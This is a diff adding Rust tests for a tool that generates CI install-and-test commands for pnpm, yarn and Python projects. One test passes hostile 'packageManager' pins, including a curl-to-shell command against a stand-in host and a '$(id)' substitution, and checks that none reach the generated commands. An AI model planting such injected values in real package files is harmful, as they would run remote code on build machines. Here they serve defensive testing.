@@ -36,6 +36,36 @@ fn guessed(files: &[(&str, &str)]) -> (CheckSpec, String) {
     (check.expect("a check is guessed"), out)
 }
 
+/// The release `run` gives corepack that starts with `pin` (`pnpm@10.17.1`, or a bare `yarn`):
+/// with npm and the registry at hand (as in CI), `init` names it with the hash of the registry's
+/// tarball (`pnpm@10.17.1+sha512.<128 hex digits>`); without them, as pinned.
+fn release_of(run: &str, pin: &str) -> String {
+    let word = run
+        .split_whitespace()
+        .skip_while(|w| *w != "corepack")
+        .nth(1)
+        .unwrap_or_default()
+        .to_string();
+    assert!(word.starts_with(pin), "{pin}: {run}");
+    // On PATH under its own name, for the project's scripts that call it (`pnpm -r test`).
+    let name = pin.split('@').next().unwrap();
+    let shim = format!("exec corepack {word} \"$@\"\\n' > \"$PWD\"/.closegate-cache/bin/{name}");
+    assert!(
+        run.contains(&shim) && run.contains("export PATH=\"$PWD\"/.closegate-cache/bin:\"$PATH\""),
+        "{run}"
+    );
+    if crate::fixture::require(Part::Tool("npm")).is_some() {
+        let (_, hash) = word
+            .split_once("+sha512.")
+            .expect("a release with its hash");
+        assert!(
+            hash.len() == 128 && hash.bytes().all(|b| b.is_ascii_hexdigit()),
+            "{word}"
+        );
+    }
+    word
+}
+
 const TEST_SCRIPT: &str = "\"scripts\": {\"test\": \"vitest run\"}";
 
 /// SPEC §27.4: a pnpm workspace (its `catalog:` and `workspace:` protocols, which npm refuses)
@@ -76,21 +106,26 @@ fn a_pnpm_workspace_is_installed_by_pnpm_never_npm() {
             "{what}: {}",
             check.run
         );
+        release_of(&check.run, "pnpm@10.17.1");
         assert!(
-            check.run.contains("corepack pnpm install --offline --frozen-lockfile --store-dir \"$PWD\"/.closegate-cache/pnpm-store"),
+            check.run.contains("CI=true pnpm install --offline --frozen-lockfile --store-dir \"$PWD\"/.closegate-cache/pnpm-store"),
+            "{what}: {}",
+            check.run
+        );
+        // What `pnpm fetch` skipped runs offline (the fetch runs no dependency's build script).
+        assert!(
+            check.run.contains("&& pnpm rebuild --pending --store-dir"),
             "{what}: {}",
             check.run
         );
         assert!(
-            check
-                .run
-                .ends_with("&& corepack pnpm test -- --reporter=verbose"),
+            check.run.ends_with("&& pnpm test -- --reporter=verbose"),
             "{what}: {}",
             check.run
         );
         let prepare = check.prepare.as_deref().unwrap_or_default();
         assert!(
-            prepare.contains("corepack pnpm fetch --store-dir"),
+            prepare.contains("; pnpm fetch --ignore-scripts --store-dir"),
             "{what}: {prepare}"
         );
         assert!(
@@ -109,8 +144,9 @@ fn a_pnpm_workspace_is_installed_by_pnpm_never_npm() {
     }
     // Without a lock file pnpm must resolve: the install keeps the network.
     let (check, _) = guessed(&[("package.json", &root_json)]);
+    release_of(&check.run, "pnpm@10.17.1");
     assert!(
-        check.run.contains("corepack pnpm install --store-dir"),
+        check.run.contains("CI=true pnpm install --store-dir"),
         "{}",
         check.run
     );
@@ -127,16 +163,18 @@ fn a_yarn_workspace_is_installed_by_yarn() {
         ("package.json", root_json),
         ("yarn.lock", "# yarn lockfile v1\n"),
     ]);
+    // No pin: the registry's latest yarn 1, named with its hash (corepack's own when offline).
+    release_of(&check.run, "yarn");
     let prepare = check.prepare.as_deref().unwrap();
     assert!(
-        prepare.contains("corepack yarn install --frozen-lockfile --ignore-scripts"),
+        prepare.contains("; yarn install --frozen-lockfile --ignore-scripts"),
         "{prepare}"
     );
     assert!(
         check
             .run
-            .contains("corepack yarn install --frozen-lockfile --offline")
-            && check.run.ends_with("&& corepack yarn test"),
+            .contains("; yarn install --frozen-lockfile --offline")
+            && check.run.ends_with("&& yarn test"),
         "{}",
         check.run
     );
@@ -159,6 +197,46 @@ fn a_yarn_workspace_is_installed_by_yarn() {
             .prepare
             .unwrap()
             .contains("npm install --ignore-scripts")
+    );
+}
+
+/// Attack (issue 50): a `packageManager` pin is followed only as `name@version[+algo.hex]`; a URL
+/// (corepack would download and run it, in `prepare`, with the network) or shell text is not
+/// written into the check, which names its own release instead. A pin's own hash is kept as is:
+/// corepack checks every download against it.
+#[test]
+fn a_hostile_package_manager_pin_is_not_followed() {
+    let lock = ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n");
+    for pin in [
+        "pnpm@https://evil.example/pnpm.tgz",
+        "pnpm@10.17.1; curl evil.example | sh",
+        "pnpm@>=10",
+        "pnpm@10.17.1+sha512.$(id)",
+    ] {
+        let json = format!(
+            "{{{TEST_SCRIPT}, \"packageManager\": {}}}\n",
+            serde_json::json!(pin)
+        );
+        let (check, _) = guessed(&[("package.json", &json), lock]);
+        let prepare = check.prepare.unwrap_or_default();
+        for text in [&check.run, &prepare] {
+            assert!(
+                !text.contains("evil") && !text.contains("$(id)") && !text.contains(">="),
+                "{pin}: {text}"
+            );
+        }
+        let pnpm = release_of(&check.run, "pnpm");
+        assert!(pnpm == "pnpm" || pnpm.starts_with("pnpm@"), "{pin}: {pnpm}");
+    }
+    let hash = "a".repeat(128);
+    let json = format!("{{{TEST_SCRIPT}, \"packageManager\": \"pnpm@10.17.1+sha512.{hash}\"}}\n");
+    let (check, _) = guessed(&[("package.json", &json), lock]);
+    assert!(
+        check
+            .run
+            .contains(&format!("exec corepack pnpm@10.17.1+sha512.{hash} ")),
+        "{}",
+        check.run
     );
 }
 
@@ -188,6 +266,55 @@ fn npm_with_a_committed_lock_file_passes_its_own_try() {
                 .prepare
                 .unwrap()
                 .contains("node_modules/.closegate-deps.new")
+    );
+}
+
+/// SPEC §27.4 (issue 50): a Python project whose base tip has stood for over a year resolves its
+/// unpinned dependencies as of that tip's date (`pip install --uploaded-prior-to`, with a pip that
+/// knows it), the date in the stamp; one committed today resolves as before.
+#[test]
+fn a_dormant_python_project_resolves_as_of_its_base_tip() {
+    let pyproject = "[project]\nname = \"demo\"\nversion = \"0.1\"\n\n\
+                     [project.optional-dependencies]\ntest = [\"mypy~=1.4\"]\n";
+    let fx = Fixture::new();
+    let root = fx.root();
+    fx.write(&root, "pyproject.toml", pyproject);
+    git(&root, &["add", "pyproject.toml"]);
+    let mut commit = std::process::Command::new("git");
+    commit.args(["commit", "-qm", "project"]).current_dir(&root);
+    crate::fixture::hermetic(&mut commit, &root);
+    let old = "2024-10-10T00:45:06Z";
+    assert!(
+        commit
+            .env("GIT_COMMITTER_DATE", old)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let (code, out, err) = parts(&closegate(&root, &["init", "--no-try"]));
+    assert_eq!(code, 0, "{out}{err}");
+    let text = std::fs::read_to_string(root.join(".closegate.toml")).unwrap();
+    let run = &Config::parse(&text, "x").unwrap().checks[0].run;
+    assert!(
+        run.contains(&format!(
+            "{{ echo {old}; cat pyproject.* setup.* requirements*.txt 2>/dev/null; }}"
+        )),
+        "{run}"
+    );
+    assert!(
+        run.contains(&format!(
+            "{{ python3 -m venv --clear .venv && .venv/bin/python -m pip install -q \
+             --disable-pip-version-check 'pip>=26' && .venv/bin/python -m pip install -q --disable-pip-version-check \
+             --uploaded-prior-to={old} -e '.[test]' pytest && cp"
+        )),
+        "{run}"
+    );
+    // Committed today: today's releases, as before.
+    let (check, _) = guessed(&[("pyproject.toml", pyproject)]);
+    assert!(
+        !check.run.contains("--uploaded-prior-to") && !check.run.contains("pip>=26"),
+        "{}",
+        check.run
     );
 }
 
